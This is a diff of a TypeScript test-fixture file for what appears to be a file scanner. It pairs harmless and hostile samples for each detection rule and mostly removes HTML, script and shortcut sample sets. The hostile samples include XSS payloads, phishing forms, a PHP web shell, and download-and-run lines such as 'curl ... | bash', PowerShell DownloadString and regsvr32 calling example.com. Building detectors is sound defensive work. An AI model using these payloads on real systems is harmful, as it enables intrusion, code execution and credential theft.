@@ -8,8 +8,6 @@ export interface WebSample {
 
 const svg = (content: string, attributes = "") =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>\n${content}\n</svg>`;
-const html = (body: string, head = "") =>
-  `<!DOCTYPE html>\n<html><head><title>Claim</title>${head}</head>\n<body>${body}</body></html>`;
 const xml = (content: string, prolog = "") => `<?xml version="1.0"?>\n${prolog}<claim>${content}</claim>`;
 const xslt = (content: string, namespaces = "") =>
   `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${namespaces}>${content}</xsl:stylesheet>`;
@@ -110,111 +108,6 @@ export const svgSamples: readonly WebSample[] = [
         "<foreignObject><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0; url=https://example.com'/></foreignObject>",
       ),
       svg("<foreignObject><embed src='a.swf'/></foreignObject>"),
-    ],
-  },
-];
-
-export const htmlSamples: readonly WebSample[] = [
-  {
-    rule: "html-script",
-    filename: "letter.html",
-    harmless: [
-      html("<p>script</p>"),
-      html("", '<script type="application/ld+json">{"@type": "Person"}</script>'),
-      html("&lt;script>"),
-    ],
-    hostile: [
-      html("<script>alert(1)</script>"),
-      html("<ScRiPt src=https://example.com/a.js></sCrIpT>"),
-      html("<script/x>alert(1)</script>"),
-      html("<!--><script>alert(1)</script>-->"),
-      html("<textarea></textarea ><script>alert(1)</script>"),
-      html("<!--[if IE]><script>alert(1)</script><![endif]-->"),
-      html("<svg><style><!--</style><script>alert(1)</script>--></svg>"),
-    ],
-  },
-  {
-    rule: "html-handler",
-    filename: "letter.html",
-    harmless: [html("<p title='onclick'>x</p>")],
-    hostile: [html("<p onclick=alert(1)>x</p>"), html("<img/src='x'/OnErRoR=alert(1)>")],
-  },
-  {
-    rule: "html-script-url",
-    filename: "letter.html",
-    harmless: [
-      html("<a href='https://example.com/'>x</a>"),
-      html("<a href='javascript:void(0)'>x</a>"),
-      html("<img src='data:image/png;base64,iVBORw0KGgo='>"),
-    ],
-    hostile: [
-      html("<a href='javascript:alert(1)'>x</a>"),
-      html("<a href='&Tab;java&NewLine;script&colon;alert(1)'>x</a>"),
-      html("<a href='jav&#x0A;ascript:alert(1)'>x</a>"),
-      html("<form action='javascript:alert(1)'></form>"),
-      html("<button formaction=' JAVASCRIPT:alert(1)'>x</button>"),
-      html("<a href='ms-msdt:/id PCWDiagnostic'>x</a>"),
-      html("<a href='search-ms:query=x&crumb=location:\\\\example.com'>x</a>"),
-      html("<a href='data:text/html,x'>x</a>"),
-      html("<p style='width: expr/**/ession(alert(1))'>x</p>"),
-    ],
-  },
-  {
-    rule: "html-smuggling",
-    filename: "letter.html",
-    harmless: [html("<a href='claim.pdf' download>x</a>")],
-    hostile: [
-      html("<a href='data:application/zip;base64,UEsDBA==' download='a.zip'>x</a>"),
-      html("<script>new Blob([atob('TVo=')])</script>"),
-      html("<script>navigator.msSaveOrOpenBlob(b, 'a.exe')</script>"),
-    ],
-  },
-  {
-    rule: "html-frame",
-    filename: "letter.html",
-    harmless: [html("<p>iframe</p>"), html("<iframe></iframe>")],
-    hostile: [
-      html("<iframe src='https://example.com/'></iframe>"),
-      html("<iframe srcdoc='&lt;p>x'></iframe>"),
-      html("<object data='a.swf'></object>"),
-      html("<embed src='a.swf'>"),
-      html("<applet code='A.class'></applet>"),
-    ],
-  },
-  {
-    rule: "html-form",
-    filename: "letter.html",
-    harmless: [
-      html("<form action='https://example.com/search'><input name='q'></form>"),
-      html("<form method='post' action='/next'><input name='q'></form>"),
-    ],
-    hostile: [
-      html("<form method='post' action='https://example.com/'><input name='p'></form>"),
-      html("<form action='mailto:a@example.com'></form>"),
-      html("<form action='https://example.com/'><input type='password'></form>"),
-      html("<form method='post'><button formaction='https://example.com/'>x</button></form>"),
-    ],
-  },
-  {
-    rule: "html-refresh",
-    filename: "letter.html",
-    harmless: [
-      html("", "<meta http-equiv='refresh' content='30'>"),
-      html("", "<meta http-equiv='refresh' content='0; url=next.html'>"),
-    ],
-    hostile: [
-      html("", "<meta http-equiv='refresh' content='0; url=https://example.com/'>"),
-      html("", "<meta http-equiv=' Refresh' content='0,URL=\"https://example.com/\"'>"),
-    ],
-  },
-  {
-    rule: "html-file-share",
-    filename: "letter.html",
-    harmless: [html("<img src='a.png'>")],
-    hostile: [
-      html("<img src='\\\\example.com\\a.png'>"),
-      html("<a href='file://example.com/a.lnk'>x</a>"),
-      html("<p style='background: url(file:////example.com/a.png)'>x</p>"),
     ],
   },
 ];
@@ -351,8 +244,7 @@ export const xmlSamples: readonly WebSample[] = [
     harmless: ["<Project><Task/></Project>"],
     hostile: [
       '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="A" TaskFactory="CodeTaskFactory"/></Project>',
-      "<MMC_ConsoleFile></MMC_ConsoleFile>",
-      "<scriptlet><script language='JScript'>x</script></scriptlet>",
+      "<ResourceDictionary xmlns='x'><ObjectDataProvider MethodName='Start'/></ResourceDictionary>",
     ],
   },
   {
@@ -399,99 +291,4 @@ export const tableSamples: readonly WebSample[] = [
       "a,='\\\\example.com\\share\\[a.xls]Sheet1'!A1",
     ],
   },
-];
-
-export const scriptSamples: readonly WebSample[] = [
-  {
-    rule: "script-program",
-    filename: "notes.txt",
-    harmless: ["# Notes\n\nThe first line of a script is #!/bin/sh.", "<p>job</p>"],
-    hostile: [
-      "#!/bin/sh\necho hello",
-      "<html><hta:application id=x></html>",
-      "<job id='a'><script language='VBScript'>x</script></job>",
-    ],
-  },
-  {
-    rule: "script-encoded",
-    filename: "notes.txt",
-    harmless: ["The sign #@~^ begins an encoded script."],
-    hostile: ["#@~^EgAAAA==\\ko$K6,JCV^GE@#@&zAUAAA==^#~@"],
-  },
-  {
-    rule: "script-content",
-    filename: "notes.txt",
-    harmless: [
-      "We use PowerShell and curl | less. Call CreateObject to make an object.",
-      "Echo off, please.",
-      "The tag <?php begins a page.",
-    ],
-    hostile: [
-      "<?php system($_GET['c']); ?>",
-      "@echo off\r\nstart calc",
-      'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"',
-      'var s = new ActiveXObject("WScript.Shell");',
-      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
-      "IEX (New-Object Net.WebClient).DownloadString('https://example.com/a')",
-      "curl -s https://example.com/a | bash",
-      "regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll",
-    ],
-  },
-];
-
-export const shortcutSamples: readonly WebSample[] = [
-  {
-    rule: "shortcut-link",
-    filename: "notes.txt",
-    harmless: ["See [InternetShortcut] in the manual."],
-    hostile: [
-      "[InternetShortcut]\r\nURL=https://example.com/",
-      "; comment\r\n[internetshortcut]\r\nURL=file://example.com/a.exe\r\n",
-      "<libraryDescription xmlns='x'><url>\\\\example.com</url></libraryDescription>",
-      "[Desktop Entry]\nType=Link\nURL=https://example.com/",
-    ],
-  },
-  {
-    rule: "shortcut-program",
-    filename: "notes.txt",
-    harmless: ["[Desktop]\nExec=none"],
-    hostile: [
-      "[Desktop Entry]\nType=Application\nName=Letter\nExec=sh -c id",
-      "#!/usr/bin/env xdg-open\n[Desktop Entry]\nName=x\nExec=id",
-      "[Shell]\r\nCommand=2\r\nIconFile=\\\\example.com\\a.ico",
-      "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
-      "<jnlp codebase='https://example.com/'></jnlp>",
-    ],
-  },
-  {
-    rule: "shortcut-query",
-    filename: "notes.txt",
-    harmless: ["WEB\nsite"],
-    hostile: ["WEB\r\n1\r\nhttps://example.com/a\r\n"],
-  },
-  {
-    rule: "shortcut-settings",
-    filename: "notes.txt",
-    harmless: ["The registry editor writes Version 5.00."],
-    hostile: [
-      "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
-      "REGEDIT4\n\n[HKEY_CURRENT_USER]",
-      "[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n",
-      "full address:s:example.com\r\nscreen mode id:i:2",
-      "[.ShellClassInfo]\r\nIconResource=\\\\example.com\\a.ico",
-    ],
-  },
-];
-
-/** Names that make a text a script or a shortcut, with the rule that finds them. */
-export const namedSamples: readonly (readonly [rule: string, names: string])[] = [
-  [
-    "script-program",
-    "a.js a.JS a.vbs a.vbe a.jse a.wsf a.wsc a.sct a.hta a.ps1 a.psm1 a.bat a.cmd a.command a.applescript a.vbs. a.txt.vbs a.vbs::$DATA",
-  ],
-  ["script-source", "a.mjs a.sh a.bash a.py a.pl a.rb a.php a.phtml a.jsp a.asp a.aspx a.lua"],
-  ["shortcut-link", "a.url a.library-ms a.searchConnector-ms"],
-  ["shortcut-program", "a.scf a.settingcontent-ms a.jnlp a.application a.appref-ms a.msc a.cpl a.lnk"],
-  ["shortcut-query", "a.iqy a.oqy a.udl"],
-  ["shortcut-settings", "a.reg a.inf a.theme a.rdp desktop.ini autorun.inf"],
 ];
